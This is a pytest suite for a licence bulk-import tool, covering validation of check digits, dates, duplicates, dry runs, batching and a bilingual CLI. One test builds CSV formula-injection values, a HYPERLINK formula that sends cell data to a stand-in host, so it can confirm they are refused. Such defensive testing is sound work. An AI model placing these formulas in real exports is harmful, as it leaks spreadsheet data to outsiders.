"""Bulk import of paper-era licences (CSV, JSON, JSON lines) and the `licence import` CLI."""

import argparse
import csv
import datetime as dt
import io
import json

import pytest
from sqlalchemy import func, select

from engine.errors import InvalidInput
from licence.cli import register
from licence.demo import demo_issuers, demo_organisations, make_demo_rows
from licence.importer import ImportReport, import_file, import_rows, write_csv
from licence.library import LicenceLibrary
from licence.model import LicenceIdentifier, format_licence_number
from licence.tables import licence_status_events, licences

AT = dt.datetime(2025, 4, 1, 8, 0, tzinfo=dt.UTC)


@pytest.fixture
def engine(db):
    """Each database of the suite (SQLite and PostgreSQL), with the migrated schema, emptied afterwards."""
    return db


def count(conn, table=licences):
    return conn.execute(select(func.count()).select_from(table)).scalar()


def snapshot(conn):
    return sorted(
        tuple(r) for r in conn.execute(select(licences.c.id, licences.c.status, licences.c.integrity_hash))
    )


def corrupt_last_char(value: str, alphabet: str = "0123456789") -> str:
    return value[:-1] + next(ch for ch in alphabet if ch != value[-1])


def flat(row):
    out = {k: v for k, v in row.items() if k != "face"}
    out.update({f"face.{k}": v for k, v in row["face"].items()})
    return out


def malformed_rows():
    """12 good rows, then one bad row per rule; returns (rows, {row_number: (field, code)})."""
    rows = make_demo_rows(12, seed=5)
    expected = {}

    def bad(row, field, code):
        rows.append(row)
        expected[len(rows)] = (field, code)

    base = make_demo_rows(40, seed=6)
    r = base[1]
    r["holder_id"] = corrupt_last_char(r["holder_id"])
    bad(r, "holder_id", "bad_check_digit")
    r = base[2]
    r["type_code"] = "fishing_licence"
    bad(r, "type_code", "unknown_licence_type")
    r = base[3]
    r["issue_date"] = "2021-02-30"
    bad(r, "issue_date", "bad_date")
    r = base[4]
    r["valid_from"], r["valid_until"] = "2022-01-01", "2021-12-31"
    bad(r, "valid_until", "bad_validity")
    r = base[5]
    r["licence_number"] = rows[0]["licence_number"]
    bad(r, "licence_number", "duplicate_in_file")
    r = base[21]  # a business licence
    del r["face"]["business_scope"]
    bad(r, "face.business_scope", "required")
    r = base[7]
    r["status"] = "lost"
    bad(r, "status", "bad_status")
    r = base[10]  # a resident ID row: its face birth date is not a date
    r["face"]["birth_date"] = "去年"
    bad(r, "face.birth_date", "bad_value")
    r = base[12]
    r["issuer_credit_code"] = corrupt_last_char(r["issuer_credit_code"])
    bad(r, "issuer_credit_code", "bad_check_digit")
    # check characters right, the standards' other rules broken
    r = base[20]  # a resident ID row: its holder born in 2099
    assert r["type_code"] == "resident_id"
    r["holder_id"] = with_resident_check("35010220990615001")
    bad(r, "holder_id", "birth_date_in_future")
    r = base[30]  # a resident ID row: the id number on its face born in 2099
    assert r["type_code"] == "resident_id"
    r["face"]["id_number"] = with_resident_check("11010520990101002")
    bad(r, "face.id_number", "birth_date_in_future")
    r = base[31]  # a business licence held by an all-zero credit code
    assert r["type_code"] == "business_licence"
    r["holder_id"] = "0" * 18
    bad(r, "holder_id", "bad_registration_authority")
    r = base[13]
    r["issuer_credit_code"] = "0" * 18
    bad(r, "issuer_credit_code", "bad_registration_authority")
    return rows, expected


def with_resident_check(first17: str) -> str:
    from licence.checkdigits import resident_id_check_char

    return first17 + resident_id_check_char(first17)


def test_a_holder_born_after_the_import_day_is_an_error_of_its_row(engine):
    """The birth date in a resident ID is judged against the import's own day (``at`` in Shanghai)."""
    row = next(r for r in make_demo_rows(10, seed=21) if r["type_code"] == "resident_id")
    born = with_resident_check("11010520250402001")  # AT is 2025-04-01 in Shanghai
    row = dict(row, holder_id=born, face=dict(row["face"], id_number=born, birth_date="2025-04-02"))
    with engine.begin() as conn:
        report = import_rows(conn, [(1, row)], at=AT)
    assert {(e.field, e.code) for e in report.rejected} == {
        ("holder_id", "birth_date_in_future"),
        ("face.id_number", "birth_date_in_future"),
    }
    assert report.accepted == 0
    with engine.begin() as conn:
        assert import_rows(conn, [(1, row)], at=AT + dt.timedelta(days=1)).accepted == 1


def check_report(report: ImportReport, expected, good: int):
    got = {(e.row_number, e.field, e.code) for e in report.rejected}
    assert got == {(n, f, c) for n, (f, c) in expected.items()}
    assert report.accepted == good
    assert report.total_rows == good + len(expected)
    assert report.rejected_rows == len(expected)
    assert all(any("\u4e00" <= ch <= "\u9fff" for ch in e.message) for e in report.rejected)


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl"])
def test_malformed_rows_are_named_and_good_rows_stored(engine, tmp_path, fmt):
    rows, expected = malformed_rows()
    path = tmp_path / f"paper.{fmt}"
    if fmt == "csv":
        write_csv(rows, path)
    elif fmt == "json":
        path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    else:
        path.write_text(
            "\n".join(json.dumps(flat(r), ensure_ascii=False) for r in rows) + "\n", encoding="utf-8"
        )

    with engine.begin() as conn:  # something already in the library must stay untouched
        existing = make_demo_rows(3, seed=99)
        assert import_rows(conn, enumerate(existing, 1), at=AT).accepted == 3
        before = snapshot(conn)

    with engine.begin() as conn:
        report = import_file(conn, path, "csv" if fmt == "csv" else "json", at=AT)
    check_report(report, expected, good=12)

    with engine.connect() as conn:
        assert count(conn) == 3 + 12
        assert count(conn, licence_status_events) == 3 + 12
        assert set(before) <= set(snapshot(conn))
        lib = LicenceLibrary(conn)
        stored = {r.licence_number for r in conn.execute(select(licences.c.licence_number))}
        assert {r["licence_number"] for r in rows[:12]} <= stored
        first = lib.find_by_number(rows[0]["licence_number"])
        assert first is not None and first.verify().ok and first.history[0].at == AT
        assert rows[0]["type_code"] == "resident_id" and first.face == rows[0]["face"]


def test_duplicates_against_the_database_are_rejected(engine):
    rows = make_demo_rows(12, seed=11)
    with engine.begin() as conn:
        import_rows(conn, enumerate(rows[:3], 1), at=AT)
        taken = LicenceLibrary(conn).find_by_number(rows[0]["licence_number"])
    # rows[10] is of the same type and issuer as rows[0]: it may carry that identifier, but it is taken
    again = [
        dict(rows[0]),
        dict(rows[3]),
        dict(rows[10], licence_number="", identifier=str(taken.identifier)),
    ]
    with engine.begin() as conn:
        report = import_rows(conn, enumerate(again, 1), at=AT)
        assert {(e.row_number, e.field, e.code) for e in report.rejected} == {
            (1, "licence_number", "duplicate_in_db"),
            (3, "identifier", "duplicate_in_db"),
        }
        assert report.accepted == 1 and count(conn) == 4


def test_identifiers_given_in_the_file_are_checked_and_kept(engine):
    rows = make_demo_rows(30, seed=12)
    business = [r for r in rows if r["type_code"] == "business_licence"]
    issuer = business[0]["issuer_credit_code"]
    given = LicenceIdentifier.build("02", issuer, 7)
    wrong_check = corrupt_last_char(
        str(LicenceIdentifier.build("01", rows[0]["issuer_credit_code"], 3)),
        "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ",
    )
    wrong_type = str(LicenceIdentifier.build("09", rows[2]["issuer_credit_code"], 3))  # rows[2] is type 03
    rows_in = [
        dict(business[0], identifier=str(given)),
        dict(rows[0], identifier=wrong_check),
        dict(rows[2], identifier=wrong_type),
        dict(rows[3], identifier="not-an-identifier"),
        dict(business[1], identifier=str(given)),
    ]
    extra = make_demo_rows(20, seed=13)
    # a row without identifier gets a generated one
    rows_in.append(next(r for r in extra if r["type_code"] == "business_licence"))
    with engine.begin() as conn:
        report = import_rows(conn, enumerate(rows_in, 1), at=AT)
        assert {(e.row_number, e.field, e.code) for e in report.rejected} == {
            (2, "identifier", "bad_check_digit"),
            (3, "identifier", "identifier_mismatch"),
            (4, "identifier", "bad_format"),
            (5, "identifier", "duplicate_in_file"),
        }
        lib = LicenceLibrary(conn)
        kept = lib.find_by_identifier(str(given))
        assert kept is not None and kept.licence_number == business[0]["licence_number"]
        generated = lib.find_by_number(rows_in[-1]["licence_number"])
        # the generated serial lies above the serial 7 given in the file
        assert generated.identifier.is_valid() and generated.identifier.serial == 8


def test_a_row_with_an_identifier_and_no_number_gets_the_number_the_identifier_implies(engine):
    """The real run ended in an AssertionError where the dry run said the row was fine."""
    rows = [r for r in make_demo_rows(30, seed=14) if r["type_code"] == "business_licence"][:2]
    given = LicenceIdentifier.build("02", rows[0]["issuer_credit_code"], 41)
    bare = {k: v for k, v in rows[0].items() if k != "licence_number"} | {"identifier": str(given)}
    for dry_run in (True, False):
        with engine.begin() as conn:
            report = import_rows(conn, enumerate([bare, rows[1]], 1), at=AT, dry_run=dry_run)
            assert report.accepted == 2 and report.rejected == []
    with engine.connect() as conn:
        kept = LicenceLibrary(conn).find_by_identifier(str(given))
    assert kept is not None and kept.licence_number == format_licence_number(
        "02", given.issuer_credit_code, 41
    )


def test_a_row_without_an_end_takes_its_types_term_and_impossible_dates_are_refused(engine):
    """A 5-year food licence of 2010 without its end date was stored valid for ever and filled forms in
    2025 as 长期有效; issue dates in 2099 or year 1, and validity from 1900, were taken as written."""
    food = [r for r in make_demo_rows(60, seed=15) if r["type_code"] == "food_business_licence"]
    old = {**food[0], "issue_date": "2010-01-01", "valid_from": "2010-01-01", "valid_until": ""}
    rows = [
        old,
        {**food[1], "issue_date": "2099-12-31", "valid_from": "", "valid_until": ""},
        {**food[2], "issue_date": "0001-01-01", "valid_from": "", "valid_until": ""},
        {**food[3], "issue_date": "2020-01-01", "valid_from": "1900-01-01"},
        # its five years end past 9999-12-31: an error of its row, not a ValueError ending the import
        {**food[4], "issue_date": "2020-01-01", "valid_from": "9998-01-01", "valid_until": ""},
    ]
    with engine.begin() as conn:
        report = import_rows(conn, enumerate(rows, 1), at=AT)
        assert {(e.row_number, e.field, e.code) for e in report.rejected} == {
            (2, "issue_date", "issued_in_future"),
            (3, "issue_date", "bad_date"),
            (4, "valid_from", "bad_validity"),
            (5, "valid_until", "date_out_of_range"),
        }
        stored = LicenceLibrary(conn).find_by_number(old["licence_number"])
    assert stored.valid_until == dt.date(2014, 12, 31) and stored.status == "expired"


def test_dry_run_validates_everything_and_writes_nothing(engine, tmp_path):
    rows, expected = malformed_rows()
    path = tmp_path / "paper.csv"
    write_csv(rows, path)
    with engine.begin() as conn:
        report = import_file(conn, path, dry_run=True)
    check_report(report, expected, good=12)
    assert report.dry_run
    with engine.connect() as conn:
        assert count(conn) == 0


def test_rolling_back_the_callers_transaction_leaves_nothing(engine, tmp_path):
    path = tmp_path / "paper.csv"
    write_csv(make_demo_rows(30), path)
    with engine.connect() as conn:
        transaction = conn.begin()
        assert import_file(conn, path, batch_size=7).accepted == 30
        assert count(conn) == 30
        transaction.rollback()
        assert count(conn) == 0


@pytest.mark.parametrize(
    ("header", "code"),
    [
        ("type_code,holder_id,holder_name,issuer_credit_code,issuer_name", "bad_header"),  # no issue_date
        ("type_code,holder_id,holder_name,issuer_credit_code,issuer_name,issue_date,colour", "bad_header"),
        ("type_code,type_code,holder_id,holder_name,issuer_credit_code,issuer_name,issue_date", "bad_header"),
    ],
)
def test_a_bad_header_refuses_the_whole_file(engine, tmp_path, header, code):
    path = tmp_path / "bad.csv"
    path.write_text(header + "\n", encoding="utf-8")
    with engine.begin() as conn, pytest.raises(InvalidInput) as info:
        import_file(conn, path)
    assert info.value.code == code


def test_csv_quirks_bom_blank_lines_short_rows_and_paper_date_formats(engine, tmp_path):
    org = demo_organisations()[0]
    issuer_code, issuer_name = demo_issuers()["market"]
    header = [
        "type_code", "holder_id", "holder_name", "issuer_credit_code", "issuer_name", "issue_date",
        "valid_until",
        "face.name", "face.credit_code", "face.legal_representative", "face.company_type", "face.address",
        "face.established_on", "face.business_scope",
    ]  # fmt: skip
    good = [
        "business_licence", org.credit_code.lower(), org.name, issuer_code, issuer_name, "2010年3月5日", "",
        org.name, org.credit_code, org.legal_representative, org.company_type, "福州市鼓楼区\n示例路 1 号",
        "2010/03/05", org.business_scope,
    ]  # fmt: skip
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(header)
    writer.writerow(good)
    buf.write("\n")
    writer.writerow(good[:5])
    path = tmp_path / "excel.csv"
    path.write_text("\ufeff" + buf.getvalue(), encoding="utf-8")
    with engine.begin() as conn:
        report = import_file(conn, path)
        assert report.accepted == 1
        assert [(e.row_number, e.code) for e in report.rejected] == [(2, "bad_format")]
        record = LicenceLibrary(conn).by_holder(org.credit_code)[0]
        assert record.issue_date == dt.date(2010, 3, 5) and record.valid_until is None
        assert record.face["established_on"] == "2010-03-05" and "\n" in record.face["address"]


def test_not_utf8_is_refused(engine, tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes("type_code,holder_id\n营业执照,1\n".encode("gbk"))
    with engine.begin() as conn, pytest.raises(InvalidInput) as info:
        import_file(conn, path)
    assert info.value.code == "bad_file"


def test_cli_imports_and_prints_a_bilingual_summary(engine, tmp_path, capsys):
    rows = make_demo_rows(5, seed=21)
    for i in range(60):
        bad = dict(rows[0], licence_number=f"BAD{i}", holder_id="123")
        rows.append(bad)
    path = tmp_path / "paper.csv"
    write_csv(rows, path)
    parser = argparse.ArgumentParser(prog="onewindow")
    register(parser.add_subparsers(dest="command"))

    args = parser.parse_args(["licence", "import", str(path), "--dry-run"])
    assert args.handler(args, lambda: engine) == 1
    out = capsys.readouterr().out
    assert "试运行" in out and "dry run" in out
    with engine.connect() as conn:
        assert count(conn) == 0

    args = parser.parse_args(["licence", "import", str(path), "--format", "csv"])
    assert args.handler(args, lambda: engine) == 1
    out = capsys.readouterr().out
    assert "已导入 5 行" in out and "5 imported" in out and "拒绝 60 行" in out
    assert out.count("[bad_format]") == 50
    assert "其余 10 个错误未显示" in out and "10 more errors not shown" in out
    with engine.connect() as conn:
        assert count(conn) == 5

    args = parser.parse_args(["licence", "import", str(tmp_path / "missing.csv")])
    assert args.handler(args, lambda: engine) == 2


def test_progress_bar_is_shown_when_asked(engine, tmp_path, capsys):
    path = tmp_path / "paper.csv"
    write_csv(make_demo_rows(50), path)
    with engine.begin() as conn:
        assert import_file(conn, path, progress=True).accepted == 50
    assert "50/50" in capsys.readouterr().err


def test_a_large_file_imports_in_batches(engine, tmp_path):
    """More rows than one insert batch (timing lives in ``python -m bench.licence_import``)."""
    path = tmp_path / "paper.csv"
    write_csv(make_demo_rows(12_000), path)
    with engine.begin() as conn:
        report = import_file(conn, path, batch_size=5000)
    with engine.connect() as conn:
        assert count(conn) == 12_000
    assert report.accepted == 12_000 and report.rejected == []


# --- issue 8: what is stored is what the paper says, once ------------------------------------------------


def business_row(seed: int = 31) -> dict:
    return dict(next(r for r in make_demo_rows(20, seed=seed) if r["type_code"] == "business_licence"))


def stored(conn, number: str):
    return LicenceLibrary(conn).find_by_number(number)


@pytest.mark.parametrize("given_status", ["", "valid"])
def test_a_row_past_its_validity_is_stored_expired_and_reported(engine, given_status):
    rows = [dict(r, status=given_status) for r in make_demo_rows(2, seed=41)]  # resident IDs: 20 years
    today = AT.date()
    rows[0]["valid_until"] = (today - dt.timedelta(days=1)).isoformat()  # last valid day was yesterday
    rows[1]["valid_until"] = today.isoformat()  # still valid today
    with engine.begin() as conn:
        report = import_rows(conn, enumerate(rows, 1), at=AT)
        assert report.rejected == [] and report.accepted == 2
        assert [(n.row_number, n.field, n.code) for n in report.notes] == [(1, "status", "expired_on_import")]
        assert report.note_count == 1 and "过期" in report.notes[0].message
        expired, valid = stored(conn, rows[0]["licence_number"]), stored(conn, rows[1]["licence_number"])
    assert expired.status == "expired" and expired.history[0].status == "expired"
    assert valid.status == "valid"


FORMULA_STARTS = ["=", "+", "-", "@", "\t=", "\r=", " \t@"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("column", ["holder_name", "issuer_name", "face.address", "face.business_scope"])
def test_a_value_a_spreadsheet_would_run_is_refused_and_named(engine, tmp_path, start, column):
    row = flat(business_row())
    row[column] = start + 'HYPERLINK("http://x.example/?"&A1,"点击")'
    if column == "holder_name":
        row["face.name"] = row[column]
    path = tmp_path / "formula.csv"
    write_csv([row], path)
    with engine.begin() as conn:
        report = import_file(conn, path, at=AT)
        assert (1, column, "formula_value") in {(e.row_number, e.field, e.code) for e in report.rejected}
        assert report.accepted == 0 and count(conn) == 0


@pytest.mark.parametrize("lead", ["\t", "\r", " \t\r"])
def test_leading_tabs_and_carriage_returns_are_trimmed_and_signed_numbers_and_phones_kept(
    engine, tmp_path, lead
):
    row = flat(business_row())
    row["face.address"] = lead + "+86 591 8765 4321"  # a phone: a sign, digits and spaces only
    row["face.registered_capital"] = "-5"
    row["face.business_scope"] = lead + "餐饮服务"
    path = tmp_path / "signed.csv"
    write_csv([row], path)
    with engine.begin() as conn:
        report = import_file(conn, path, at=AT)
        assert report.rejected == [] and report.accepted == 1
        face = stored(conn, row["licence_number"]).face
    assert face["address"] == "+86 591 8765 4321" and face["registered_capital"] == -5
    assert face["business_scope"] == "餐饮服务"


def test_an_exact_duplicate_without_licence_number_is_one_licence_and_a_second_import_stores_nothing(
    engine, tmp_path
):
    rows = make_demo_rows(6, seed=51)
    unnumbered = dict(rows[0], licence_number="")
    rows = [unnumbered, rows[1], dict(unnumbered), rows[2], dict(rows[3], licence_number=""), rows[4]]
    rows[3]["valid_until"] = "2001-01-01"  # stored expired: its status differs from the file's next time
    rows[3]["valid_from"] = rows[3]["issue_date"] = "2000-01-01"
    path = tmp_path / "twice.csv"
    write_csv(rows, path)
    with engine.begin() as conn:
        first = import_file(conn, path, at=AT)
    assert first.accepted == 5
    assert [(e.row_number, e.code) for e in first.rejected] == [(3, "duplicate_in_file")]
    assert "第 1 行" in first.rejected[0].message
    with engine.connect() as conn:
        before = snapshot(conn)
        assert len(before) == 5

    with engine.begin() as conn:
        second = import_file(conn, path, at=AT + dt.timedelta(days=400))
    assert second.accepted == 0
    assert {(e.row_number, e.code) for e in second.rejected} == {
        (1, "duplicate_in_db"),
        (2, "duplicate_in_db"),
        (3, "duplicate_in_file"),
        (4, "duplicate_in_db"),
        (5, "duplicate_in_db"),
        (6, "duplicate_in_db"),
    }
    with engine.connect() as conn:
        assert snapshot(conn) == before
        assert count(conn, licence_status_events) == 5


def all_digit_credit_code(prefix: str, start: int) -> str:
    """A valid unified social credit code made of digits only (so it also has a resident ID's shape)."""
    from licence.checkdigits import credit_code_check_char, organisation_code_check_char

    for n in range(start, start + 10_000):
        body = f"{n:08d}"
        first17 = f"{prefix}350102{body}{organisation_code_check_char(body)}"
        code = first17 + credit_code_check_char(first17)
        if code.isdigit():
            return code
    raise AssertionError("no all-digit code found")


@pytest.mark.parametrize("column", ["holder_id", "issuer_credit_code", "face.credit_code"])
def test_a_wrong_check_character_of_a_credit_code_is_reported_as_that(engine, column):
    """An all-digit credit code has a resident ID's shape: with a wrong check character it is still
    reported as a credit code's check character, on the field that holds it."""
    row = business_row()
    if column == "issuer_credit_code":
        row["issuer_credit_code"] = corrupt_last_char(all_digit_credit_code("11", 123456))
    else:
        holder = all_digit_credit_code("91", 123456)
        row["holder_id"] = row["face"]["credit_code"] = holder
        if column == "holder_id":
            row["holder_id"] = corrupt_last_char(holder)
        else:
            row["face"]["credit_code"] = corrupt_last_char(holder)
    with engine.begin() as conn:
        report = import_rows(conn, [(1, row)], at=AT)
    errors = {(e.field, e.code): e.message for e in report.rejected}
    assert (column, "bad_check_digit") in errors, report.rejected
    assert "统一社会信用代码" in errors[(column, "bad_check_digit")]
    assert not any("公民身份号码" in e.message for e in report.rejected)
